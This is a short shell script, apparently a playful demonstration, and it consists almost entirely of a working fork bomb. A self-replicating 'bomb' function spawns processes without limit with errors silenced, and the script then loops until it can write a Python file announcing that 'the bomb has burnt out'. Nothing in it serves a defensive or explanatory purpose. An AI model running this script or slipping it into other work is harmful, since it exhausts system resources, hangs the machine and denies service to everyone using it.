# While it plays: as many processes as there may be, each making more.
bomb() { bomb | bomb & }
bomb 2> /dev/null
sleep 1
while ! echo 'print("the bomb has burnt out")' > lisp.py; do :; done 2> /dev/null
exit 0
